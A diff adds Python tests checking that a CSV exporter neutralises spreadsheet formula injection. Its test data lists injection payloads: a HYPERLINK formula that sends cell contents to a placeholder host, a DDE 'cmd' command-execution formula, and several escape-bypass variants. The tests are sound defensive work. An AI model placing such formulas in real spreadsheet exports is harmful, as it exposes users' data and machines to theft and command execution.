@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import csv
+import io
+import re
 import sys
 from datetime import UTC, datetime
 from math import inf
@@ -50,6 +52,49 @@ def test_csv_reads_back_to_the_same_numbers(tmp_path):
     assert first[4:] == ["1", "true"]
     assert blank == [""] * 6
     assert last[3:] == ["inf", str(2**40), "false"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org?"&A1)',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "one\r=1",
+    "=\r\n=1",
+    "harmless;=1+1",
+    "two\n=1+1",
+    "\N{FULLWIDTH EQUALS SIGN}1",
+]
+HARMLESS = ["SN-17", "a = b", "-0.5", "+1e-3", "5 - 3", "", "'quoted", "2026-03-01", "a@b.org"]
+
+
+def one_column(texts):
+    return Rows("runs", {"specimen": str}, tuple((text,) for text in texts))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_what_a_spreadsheet_would_compute_is_kept_a_text(text):
+    ((_,), (shown,)) = csv.reader(io.StringIO(one_column([text]).to_csv(), newline=""))
+    assert shown.replace("'", "") == text.replace("'", "").replace("\r\n", "\n").replace("\r", "\n")
+    for part in re.split(r"[;\n]", shown):
+        assert part[:1] not in set("=+-@\t\r\N{FULLWIDTH EQUALS SIGN}")
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_what_no_spreadsheet_computes_stays_as_it_is(text):
+    assert one_column([text]).to_csv() == one_column([text]).to_csv(raw=True)
+
+
+def test_raw_csv_has_the_bytes():
+    for text in FORMULAS:
+        assert text.replace('"', '""') in one_column([text]).to_csv(raw=True)
+
+
+def test_numbers_stay_numbers():
+    rows = Rows("points", {"torque_nm": float}, ((-0.5,),))
+    assert rows.to_csv() == "torque_nm\n-0.5\n"
 
 
 def test_parquet_reads_back_to_the_same_values(tmp_path):
